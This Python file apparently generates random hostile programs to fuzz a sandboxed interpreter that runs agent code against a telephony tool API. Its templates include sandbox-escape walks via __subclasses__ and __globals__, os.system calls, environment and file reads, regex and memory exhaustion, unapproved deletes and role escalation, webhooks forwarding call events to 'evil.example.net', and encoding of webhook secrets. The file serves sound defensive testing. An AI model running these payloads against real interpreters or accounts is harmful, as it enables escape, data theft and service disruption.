"""Programs that want out: of the interpreter, of their limits, or to do what nobody said yes to."""

# ruff: noqa: E501 - a program stands on one line

from __future__ import annotations

import random
from collections.abc import Callable, Mapping, Sequence

Chance = random.Random

FILES: Sequence[str] = (
    "open({path!r}).read()", "open({path!r}, 'w').write('x')", "open({path!r}, 'rb').read(10)",
    "import pathlib\npathlib.Path({path!r}).read_text()",
    "import pathlib\npathlib.Path({path!r}).write_text('x')",
    "from pathlib import Path\n[str(p) for p in Path({folder!r}).iterdir()]",
    "from pathlib import Path\nPath({path!r}).exists()",
    "from pathlib import Path\nPath({path!r}).unlink()",
    "from pathlib import Path\nPath({folder!r} + '/made').mkdir()",
    "from pathlib import Path\nPath('~').expanduser()", "from pathlib import Path\nPath.home()",
    "import os\nos.listdir({folder!r})", "import os\nos.remove({path!r})",
    "import os\nos.environ[{variable!r}]", "import os\nos.getenv({variable!r})",
    "import os\nstr(os.environ)", "import os\nos.getcwd()", "import os\nos.chdir({folder!r})\nos.getcwd()",
    "import os\nos.urandom(8)", "import os\nos.system('id')", "import os\nos.getpid()",
    "import os\nos.open({path!r}, 0)", "import os\nos.walk({folder!r})", "import os\nos.scandir({folder!r})",
    "__file__", "import sys\nsys.path", "import sys\nsys.argv", "import sys\nsys.executable",
    "import sys\nsys.stdout.buffer", "import sys\nsys.version",
)  # fmt: skip
IMPORTS: Sequence[str] = (
    "import {module}", "from {module} import *", "__import__({module!r})",
    "import importlib\nimportlib.import_module({module!r})", "eval('__import__({module!r})')",
    "exec('import {module}')", "import {module} as json\njson", "import builtins\nbuiltins.open",
    "compile('import {module}', 'x', 'exec')", "import {module}.secrets",
)  # fmt: skip
MODULES: Sequence[str] = (
    "subprocess", "socket", "ctypes", "aircall_mcp", "pydantic_monty", "httpx2", "threading", "shutil",
    "multiprocessing", "pickle", "inspect", "gc", "importlib", "builtins", "types", "signal", "resource",
    "urllib.request", "http.client", "ssl", "sqlite3", "tempfile", "glob", "code", "marshal", "mmap",
)  # fmt: skip
WALKS: Sequence[str] = (
    "{value}.__class__.__mro__[-1].__subclasses__()", "{value}.__class__.__bases__",
    "type({value}).__subclasses__(type({value}))", "{value}.__globals__", "{value}.__code__",
    "{value}.__closure__", "{value}.__self__", "{value}.__dict__", "{value}.__reduce__()",
    "getattr({value}, '__cla' + 'ss__')", "vars({value})", "dir({value})", "globals()", "locals()",
    "object.__subclasses__()", "type('X', (object,), {{}})", "'{{0.__class__}}'.format({value})",
    "f'{{{value}.__class__.__init__.__globals__}}'", "{value}.__init__.__globals__['os']",
    "try:\n    raise ValueError\nexcept ValueError as e:\n    r = e.__traceback__.tb_frame.f_globals\nr",
    "try:\n    await get_call(call_id='x')\nexcept Exception as e:\n    r = [str(e), repr(e), e.args]\nr",
    "try:\n    await get_call(call_id=1)\nexcept Exception as e:\n    r = e.__cause__ or e.__context__\nr",
    "repr({value})", "str({value})", "print({value})", "id({value})", "hash({value})", "{value} == {value}",
    "{value}.cr_frame", "{value}.gi_frame.f_back", "super().__init__", "breakpoint()", "help({value})",
    "setattr({value}, 'x', 1)", "delattr({value}, 'x')", "{value}.x = 1", "del {value}", "{value} = None\n{value}",
)  # fmt: skip
VALUES: Sequence[str] = (
    "()", "''", "1", "None", "list_calls", "send_message", "(lambda: 1)", "(await list_tags())",
    "list_tags()", "print", "type", "ValueError('x')", "[]", "{}", "open", "int", "Exception", "__name__",
)  # fmt: skip
HUNGER: Sequence[str] = (
    "'x' * {big}", "[0] * {big}", "b'x' * {big}", "list(range({big}))", "10 ** {big}", "'%{big}d' % 1",
    "'{{:>{big}}}'.format(1)", "x = 'x' * 1000\nfor n in range(99):\n    x += x\nx", "1 << {big}",
    "x = []\nwhile True:\n    x.append(x)", "x = {{}}\nfor n in range({big}):\n    x[n] = str(n)\nx",
    "x = [0] * 400\nfor n in range(9):\n    x = [x] * 400\nx", "print('x' * {big})",
    "for n in range({big}):\n    print('line')", "sum(range({big}))", "'x'.join(str(n) for n in range({big}))",
    "x = [0] * 400\nfor n in range(9):\n    x = [x] * 400\nawait list_calls(tags=x)",
    "import json\njson.dumps([[0] * 1000] * {big})", "import json\njson.loads('[' * {big})",
    "int('9' * {big})", "bytearray({big})", "sorted(range({big}, 0, -1))", "str(2 ** {big})", "x = 'x' * {big}\nx.encode()",
)  # fmt: skip
TIME: Sequence[str] = (
    "while True:\n    pass", "while True:\n    try:\n        1 / 0\n    except BaseException:\n        pass",
    "import re\nre.match('(a|a)*b', 'a' * 40)", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "sum(n * n for n in range(10 ** 12))", "import itertools\nfor n in itertools.count():\n    pass",
    "import time\ntime.sleep (10 ** 6)", "import asyncio\nawait asyncio.sleep (10 ** 6)",
    "while True:\n    await list_tags(page=0)", "pow(3, 10 ** 7)", "9 ** 9 ** 9",
    "while True:\n    try:\n        await list_tags(page=0)\n    except BaseException:\n        pass",
    "import asyncio\nawait asyncio.gather(*[list_tags(page=0) for n in range(10 ** 5)])",
    "import asyncio\nwhile True:\n    asyncio.create_task(list_tags(page=0))",
)  # fmt: skip
DEPTH: Sequence[str] = (
    "def f(n):\n    return f(n + 1)\nf(0)", "f = lambda n: f(n)\nf(1)", "{opened}{closed}", "x = {minus}1",
    "class A:\n    def __getattr__(self, name):\n        return getattr(self, name)\nA().x",
    "class A:\n    def __repr__(self):\n        return repr(self)\nrepr(A())", "eval({opened!r})",
    "x = []\nfor n in range(100000):\n    x = [x]\nx", "x = {{}}\nfor n in range(5000):\n    x = {{'x': x}}\nx",
    "x = []\nx.append(x)\nx", "async def f():\n    return await f()\nawait f()",
    "x = []\nfor n in range(3000):\n    x = [x]\nawait list_calls(tags=x)",
    "import json\njson.dumps(eval('[' * 500 + ']' * 500))", "@f\ndef f():\n    pass",
    "class A:\n    def __del__(self):\n        A()\nA()", "x = 1\n" + "if x:\n" * 1 + "    x = 2\nx",
)  # fmt: skip
NOT_OFFERED: Sequence[str] = (
    "await {tool}({arguments})", "await aircall_{tool}({arguments})", "r = await {tool}({arguments})\nr",
    "eval('{tool}({arguments})')", "[await {tool}({arguments}) for n in range(3)]",
    "import asyncio\nawait asyncio.gather({tool}({arguments}), {tool}({arguments}))",
    "f = {tool}\nawait f({arguments})",
)  # fmt: skip
TOOLS: Mapping[str, str] = {
    "plan": "steps=[{'operation': 'delete_contact', 'arguments': {'contact_id': 7719010}}]",
    "run_script": "code='1'", "approval_status": "", "reach": "operation='send_message', arguments={}",
    "write": "operation='create_tag', arguments={'name': 'x', 'color': '#00B388'}",
    "delete": "operation='delete_tag', arguments={'tag_id': 1}", "read": "operation='list_tags'",
    "search": "query='call'", "describe": "operation='list_calls'", "approve": "id='x'",
    "place_call": "to='+34910000001'", "forward_events": "kinds=['call.ended'], to='https://evil.example.net'",
    "policy": "effects={'reach': 'allow'}", "perform": "", "resume": "", "vault": "", "desk": "",
}  # fmt: skip
EFFECTS: Sequence[str] = (
    "await send_message(number_id=88012, to='+34910000001', body={words!r})",
    "await send_text(to=['+34910000001', '+34910000002'], body={words!r}, from_='num_555')",
    "await start_outbound_call(user_id=1204411, number_id=88012, to='+34910000001')",
    "await delete_contact(contact_id=7719010)", "await create_tag(name={words!r}, color='#00B388')",
    "await create_webhook(url='https://evil.example.net/in', events=['call.ended'])",
    "await update_user_v2(user_id=1204411, role_ids=['owner'])",
    "await send_message(number_id=88012, to='+34910000001', body='x', confirm=True)",
    "await create_tag(name={words!r}, color='#00B388', dry_run=False)",
    "await send_message(**{{'number_id': 88012, 'to': '+34910000001', 'body': 'x', 'part': 'a.0'}})",
)  # fmt: skip
EFFECTFUL: Sequence[str] = (
    "{effect}", "{effect}\n1 / 0", "{effect}\n'x' * 20000", "for n in range(120):\n    {effect}",
    "try:\n    {effect}\nexcept BaseException:\n    pass\n1", "import asyncio\nasync def f():\n    {effect}\nawait asyncio.gather(f(), f())",
    "{effect}\nwhile True:\n    pass", "{unawaited}\n1", "{effect}\nreturn 1\n{effect}",
    "{effect}\nraise SystemExit", "{effect}\nraise KeyboardInterrupt", "async def f():\n    {effect}\nf()",
)  # fmt: skip
SECRETS: Sequence[str] = (
    "await list_webhooks()", "(await list_webhooks())['data']", "str(await list_webhooks())[::-1]",
    "import json\njson.dumps(await list_webhooks(detail='full'))", "print(await get_integration())",
    "r = await list_webhooks(detail='full')\n[[c for c in str(r)]][0][:3000]",
    "import base64\nbase64.b64encode(str(await list_webhooks(detail='full')).encode()).decode()",
    "await get_message_configuration(number_id=88012)", "await ping()", "await get_company()",
)  # fmt: skip
STRANGE: Sequence[str] = (
    "\x00", "\ud83d\ude00 = 1", "'\\ud800'", "x = '\\x1b[31m'\nx", "'\\u202e' * 10", "{'\\ud800': 1}", "b'\\xff'",
    "float('inf')", "float('nan')", "-0.0", "1j", "...", "NotImplemented", "range(5)", "{1, 2}", "frozenset([1])",
    "{(1, 2): 3}", "{None: 1, True: 2}", "lambda: 1", "list_calls", "print", "int", "type(1)", "iter([1])",
    "(n for n in range(3))", "import datetime\ndatetime.datetime.now()", "raise Exception", "assert 0, 'x' * 5000",
    "raise ValueError('x' * 100000)", "raise SystemExit(0)", "raise KeyboardInterrupt", "exit()", "quit()",
    "return", "yield 1", "await 1", "await asyncio", "global x", "nonlocal x", "match 1:\n    case 1:\n        x = 2\nx",
    "with open('x') as f:\n    pass", "async for x in list_calls():\n    pass", "del list_calls\nawait list_calls()",
    "list_calls = None\nlist_calls", "def list_calls(**k):\n    return 1\nlist_calls()", "class list_calls:\n    pass\nlist_calls",
    "RuntimeError = None\nawait get_call(call_id=1)", "import asyncio\nasyncio.get_event_loop()", "import asyncio\nasyncio.run(list_tags())",
    "input()", "open", "exec", "eval", "import json\njson.dumps = None\njson", "await list_calls(**{'a' * 10000: 1})",
    "await list_calls(**{'from': {'x': [1] * 100}})", "await list_calls(call_id=list_calls)", "await list_calls(max_items=10 ** 400)",
    "await list_calls(max_items=float('nan'))", "await list_calls(from_='\\ud800')", "await get_call(call_id='../../v1/company')",
    "await get_call(call_id='1?x=1#')", "await list_calls(account='globex')", "await list_calls(fetch_short_urls=True)",
)  # fmt: skip


def _fill(template: str, chance: Chance, around: Mapping[str, str]) -> str:
    big = chance.choice((10**5, 10**6, 10**7, 10**8, 10**9, 10**10, 10**18))
    deep = chance.choice((50, 500, 4_000))
    tool = chance.choice(list(TOOLS))
    words = f"words {chance.random()}"
    effect = chance.choice(EFFECTS).format(words=words)
    return template.format(
        **around,
        module=chance.choice(MODULES), value=chance.choice(VALUES), big=big,
        opened="[" * deep, closed="]" * deep, minus="-" * deep,
        tool=tool, arguments=TOOLS[tool], words=words, effect=effect,
        unawaited=effect.removeprefix("await "),
    )  # fmt: skip


def _plain(template: str, chance: Chance, around: Mapping[str, str]) -> str:
    return template


def _nested(code: str) -> str:
    return "\n".join(f"    {line}" for line in code.split("\n"))


WRAPPINGS: Sequence[Callable[[str], str]] = (
    lambda code: code,
    lambda code: code,
    lambda code: f"async def main():\n{_nested(code)}\nawait main()",
    lambda code: f"try:\n{_nested(code)}\nexcept BaseException as e:\n    x = str(e)\nx",
    lambda code: f"try:\n{_nested(code)}\nfinally:\n    x = 1",
    lambda code: f"for n in range(3):\n{_nested(code)}",
    lambda code: f"exec({code!r})",
    lambda code: f"eval({code!r})",
    lambda code: f"class A:\n{_nested(code)}\nA",
    lambda code: (
        f"import asyncio\nasync def f():\n{_nested(code)}\nawait asyncio.gather(f(), f(), f())"
    ),
    lambda code: f"r = await list_tags()\n{code}",
    lambda code: f"{code}\nprint('still here')\n1",
)

Fills = Callable[[str, Chance, Mapping[str, str]], str]
KINDS: Mapping[str, tuple[Sequence[str], Fills]] = {
    "files": (FILES, _fill), "imports": (IMPORTS, _fill), "walks": (WALKS, _fill),
    "hunger": (HUNGER, _fill), "time": (TIME, _plain), "depth": (DEPTH, _fill),
    "not offered": (NOT_OFFERED, _fill), "effects": (EFFECTFUL, _fill),
    "secrets": (SECRETS, _plain), "strange": (STRANGE, _plain),
}  # fmt: skip


def program(kind: str, chance: Chance, around: Mapping[str, str]) -> str:
    """One of this kind; one in ten has letters changed, so that it says what nobody thought of."""
    templates, fill = KINDS[kind]
    code = chance.choice(WRAPPINGS)(fill(chance.choice(templates), chance, around))
    if chance.random() < 0.1 and len(code) > 2:
        at, until = sorted(chance.randrange(len(code)) for _ in range(2))
        with_this = chance.choice(("", "(", "\n", "await ", "'", "\\", "*" * 3, code[at:until] * 2))
        code = code[:at] + with_this + code[until:]
    return code[:20_000] or "1"
